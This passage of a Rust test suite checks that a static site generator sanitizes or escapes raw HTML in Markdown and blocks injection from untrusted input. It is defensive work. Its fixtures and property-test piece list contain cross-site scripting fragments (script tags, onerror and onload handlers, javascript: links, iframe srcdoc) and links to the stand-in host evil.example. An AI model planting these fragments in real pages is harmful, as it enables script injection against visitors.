            " 2x\" width=\"3\" alt=\"&quot;\">",
        ),
        ("<ul><li>a<li>b</ul>", "<ul><li>a<li>b</ul>"),
        (
            "<a href=\"b.md\" class=c>b</a> <a name=n>n</a>",
            "<a href=\"/sub/terms/b/\" class=\"c\">b</a> <a name=\"n\">n</a>",
        ),
        ("a <!-- b --> c", "a  c"),
        ("a <b>b", "<p>a <b>b</b></p>"),
        (
            "> <div>\n\nc",
            "<blockquote>\n<div>\n</div></blockquote>\n<p>c</p>",
        ),
        ("a</div></p> b", "<p>a b</p>"),
        ("<form><label>a <input> b</label></form>", "a  b"),
        ("a <script>*b* `c`</script> d", "<p>a  d</p>"),
        ("<svg>\n\n## x\n\n</svg> y\n\nz", "<p>z</p>"),
        (
            "<div><script>\n\nx\n\n- </script>\n- y\n\nz\n</div>",
            "<div>",
        ),
        ("<svg/>a <svg><title>b</title></svg>c", "a c"),
        ("`<b>` <x-y>a</x-y>", "<code>&lt;b&gt;</code> a"),
        (
            "<a href=\"irc://example.org/x\">a</a> <a href=\"odd:x\">b</a>",
            "<a href=\"irc://example.org/x\">a</a> <a>b</a>",
        ),
        (
            "<table><caption>c</caption><tr><th>a<td>b<tr><td>\n\n*d*\n\n</table>",
            "<table><caption>c</caption><tr><th>a</th><td>b</td></tr><tr><td>\n<p><em>d</em></p>\n</td></tr></table>",
        ),
        ("<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a<dd>b<dt>c</dl>"),
        ("<table>\n\na\n\n</table>", "<table>\n</table>\n<p>a</p>"),
        ("<pre>a\n\n  b</pre>", "<pre>a\n\n  b</pre>"),
    ] {
        let text = without_numbers(&text("safe", written));
        let text = text.replace("<a >", "<a>");
        assert!(text.contains(shown), "{written}\n{text}");
        check_safe(&text, true).unwrap();
    }
    let primer = with("safe").page(
        "terms/a.md",
        "A",
        "<p id=here>x</p> [x](#here)\n\n<a href=\"b.md\">b</a>",
    );
    assert_eq!(primer.check(), [] as [&str; 0]);
    assert!(primer.output("terms/b/index.html").contains("Mentioned in"));
}

#[test]
fn escaped_html_is_text() {
    for (written, shown) in [
        (
            "a <b onclick=x>b</b>",
            "<p>a &lt;b onclick=x&gt;b&lt;/b&gt;</p>",
        ),
        (
            "<div>\n*a*\n</div>\n\nb",
            "<p>&lt;div&gt;\n*a*\n&lt;/div&gt;</p>\n<p>b</p>",
        ),
        ("<!-- a -->", "<p>&lt;!-- a --&gt;</p>"),
        (
            "[x](/terms/b) &amp;",
            "<a href=\"/sub/terms/b/\">x</a> &amp;",
        ),
    ] {
        let text = without_numbers(&text("escape", written));
        assert!(text.contains(shown), "{written}\n{text}");
    }
    let primer = with("escape").page(
        "terms/a.md",
        "A",
        "<a href=\"/gone\" id=\"x\">a</a> <script>",
    );
    assert_eq!(primer.check(), [] as [&str; 0]);
}

/// Pieces of raw HTML and of the Markdown around it, in any order.
const PIECES: &[&str] = &[
    "<div>",
    "</div>",
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<a href=\"b.md\">",
    "</a>",
    "<ul>",
    "</ul>",
    "<ol>",
    "<li>",
    "</li>",
    "<table>",
    "<tr>",
    "<td>",
    "</td>",
    "</table>",
    "<dl>",
    "<dt>",
    "<dd>",
    "</dl>",
    "<details>",
    "<summary>",
    "</details>",
    "<h2>",
    "</h2>",
    "<blockquote>",
    "</blockquote>",
    "<section>",
    "</section>",
    "<span class=\"x\">",
    "</span>",
    "<br>",
    "<img src=/two.png onerror=x ",
    "<img src=\"",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "</math>",
    "<title>",
    "</title>",
    "<textarea>",
    "</textarea>",
    "<xmp>",
    "</xmp>",
    "<plaintext>",
    "<noscript>",
    "</noscript>",
    "<iframe srcdoc='",
    "</iframe>",
    "<template>",
    "</template>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?",
    "?>",
    "<!x",
    ">",
    "\"",
    "'",
    "=",
    " onclick=x",
    " href=javascript:x",
    "</",
    "<",
    "&lt;",
    "&#60;",
    "&#1;",
    " ",
    "\n",
    "\n\n",
    "\n\n",
    "\n> ",
    "\n\n- ",
    "\n1. ",
    "\n  ",
    "\n    ",
    "\n\n## ",
    "\n\n| a |\n|---|\n| ",
    " |",
    "*",
    "**",
    "`",
    "~~",
    "[",
    "](b.md)",
    "](javascript:x)",
    "![",
    "](//evil.example/x)",
    "[^1]",
    "\n\n[^1]: ",
    "\n\n> [!NOTE] ",
    "\nt\n: ",
    "\n```\n",
    "[[B|",
    "]]",
    "x",
    "https://evil.example/",
    "</main>",
    "</body>",
    "<html>",
    "<body onload=x>",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(600), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn whatever_is_nested_stays_safe(
        pieces in prop::collection::vec(prop::sample::select(PIECES), 1..40),
        untrusted in any::<bool>(),
    ) {
        let mut primer = with("safe").page("terms/a.md", "A", &pieces.concat());
        primer.inputs.options.untrusted = untrusted;
        let page = primer.output("terms/a/index.html");
        if let Err(fault) = check_safe(text_of(&page), !untrusted) {
            panic!("{fault}\n{}\n{}", pieces.concat(), text_of(&page));
        }
    }
}

#[test]
fn the_size_of_html_is_no_depth() {
    let many = 20_000;
    let text = format!(
        "<div>\n{}{}\n</div>\n\n{}\n",
        "<div>".repeat(many),
        "</b></div>".repeat(many),
        "<b></i>".repeat(many)
    );
    let primer = with("safe").page("terms/a.md", "A", &text);
    check_safe(&primer.html("terms/a/index.html"), true).unwrap();
}

/// A primer of a stranger who tries what there is.
fn strange() -> Primer {
    let settings = "[site]\ntitle = \"<b>T</b>\"\nbase_url = \"https://evil.example/\"\nedit_url = \"https://evil.example/{path}\"\nnotice = \"<script>1</script>\"\n[[site.navigation]]\ntitle = \"Out\"\nurl = \"https://evil.example/\"\n[[site.navigation]]\ntitle = \"Page\"\nurl = \"/x.html\"\n[markdown]\nhtml = \"keep\"\n[collections.terms]\ntemplate = \"own.html\"\n[fields]\nsource = \"url\"\n";
    let mut primer = Primer::new()
        .config(&format!("{settings}{LENIENT}"))
        .entry("terms/a.md", "---\ntitle: A\ntemplate: robots.txt\nsource: https://evil.example/\n---\n[out](https://evil.example/) ![image](https://evil.example/i.png) <https://evil.example> https://evil.example/bare [mail](mailto:a@example.org)\n\n<a href=\"https://evil.example/\">raw</a> <a href=\"mailto:b@example.org\">raw mail</a> <img src=\"//evil.example/i.png\" srcset=\"/own.png 1x, https://evil.example/2.png 2x\" alt=\"\">\n\n[page](/x.html) ![drawing](/d.svg) [gone](https:evil.example) ![own](/own.png) [self](https://evil.example/terms/b)\n")
        .page("terms/b.md", "B", "")
        .template("own.html", "<script>own</script>{{ broken")
        .template("entry.html", "<script>own</script>")
        .asset("static/style.css", b"@import 'https://evil.example/'")
        .asset("content/favicon.svg", b"<svg onload='x'/>")
        .asset("static/x.html", b"<script>x</script>")
        .asset("static/x.JS", b"x")
        .asset("static/_headers", b"x")
        .asset("static/404.html", b"<script>x</script>")
        .asset("static/d.svg", b"<svg onload='x'/>")
        .asset("static/own.png", b"x");
    primer.inputs.options.untrusted = true;
    primer
}

#[test]
fn a_stranger_leads_nobody_out_and_runs_nothing() {
    let primer = strange();
    let build = primer.build();
    let files = build
        .files
        .unwrap_or_else(|| panic!("{}", crate::builder::full_report(&build.analysis)));
    for file in &files {
        let text = String::from_utf8_lossy(&file.bytes);
        assert!(
            !text.contains("<script>") && !text.contains("onload"),
            "{}: {text}",
            file.path
        );
        for mark in [
            "href=\"https://evil",
            "src=\"https://evil",
            "\"//evil",
            "@import",
            "\"https:evil",
            "content=\"https://evil",
        ] {
            assert!(!text.contains(mark), "{}: {mark} in {text}", file.path);
        }
        let name = file.path.rsplit('/').next().unwrap();
        assert!(
            !["x.html", "x.JS", "_headers", "d.svg"].contains(&name),
            "{}",
            file.path
        );
    }
    assert!(files.iter().any(|file| file.path == "404.html"));
    let html = primer.html("terms/a/index.html");
    for part in [
        ">out</a>",
        "alt=\"image\"",
        ">https://evil.example/bare</a>",
        "<a href=\"mailto:a@example.org\" rel=\"nofollow ugc noopener\">mail</a>",
        "<a href=\"mailto:b@example.org\" rel=\"nofollow ugc noopener\">raw mail</a>",
        ">raw</a>",
        ">page</a>",
        "alt=\"drawing\"",
        "src=\"/own.",
        "srcset=\"/own.",
    ] {
        assert!(html.contains(part), "no {part}\n{html}");
    }
    check_safe(&html, false).unwrap();
    let page = primer.output("terms/a/index.html");
    assert!(
        page.contains("https://evil.example") && !page.contains("Edit this page"),
        "{page}"
    );
    // What the operator says is believed.
    let mut own = primer.clone();
    own.inputs.options.base_url =
        Some(primer::config::BaseUrl::parse("https://example.org/x/").unwrap());
    assert!(
        own.output("terms/a/index.html")
            .contains("<link rel=\"canonical\" href=\"https://example.org/x/terms/a/\">")
    );
}

#[test]
fn the_files_of_the_theme_are_known() {
    let assets: Vec<_> =
        primer::theme::built_in::assets(&primer::config::LookSettings::default()).collect();
    let files: Vec<&str> = assets.iter().map(primer::asset::Asset::site_path).collect();
    assert_eq!(files, primer::source::THEME);
}

#[test]
fn the_stricter_of_two_wishes_holds() {
    let text = "<b>x</b> <script>y</script>";
    for (mode, untrusted, shown) in [
        ("keep", false, "<script>"),
        ("safe", false, "<b>x</b>"),
        ("escape", false, "&lt;b&gt;"),
        ("keep", true, "<b>x</b>"),
        ("safe", true, "<b>x</b>"),
        ("escape", true, "&lt;b&gt;"),
    ] {
        let mut primer = with(mode).page("terms/a.md", "A", text);
        primer.inputs.options.untrusted = untrusted;
        let html = primer.html("terms/a/index.html");
        assert!(html.contains(shown), "{html}");
        assert_eq!(
            html.contains("<script>"),
            mode == "keep" && !untrusted,
            "{html}"
        );
    }
}

#[test]
fn nothing_is_remembered_from_a_time_of_more_trust() {
    let text = "<b onclick=x>b</b> <a href=\"https://evil.example/\">x</a>";
    let primer = |mode: &str| {
        Primer::new()
            .config(&format!("[markdown]\nhtml = \"{mode}\"\n"))
            .page("terms/a.md", "A", text)
    };
    let mut last = primer("keep").analyze();
    for (mode, untrusted) in [
        ("keep", true),
        ("keep", false),
        ("safe", false),
        ("escape", true),
        ("safe", true),
        ("keep", false),
    ] {
        let mut inputs = primer(mode).inputs;
        inputs.options.untrusted = untrusted;
        last = update(&inputs, &last);
        let cold = analyze(&inputs, &|_| {});
        assert_eq!(last.diagnostics, cold.diagnostics);
        let content = |analysis: &Analysis| {
            let index = analysis.glossary.of_file("content/terms/a.md").unwrap();
            analysis.outline.content(index)
        };
        assert_eq!(content(&last), content(&cold), "{mode} {untrusted}");
    }
}
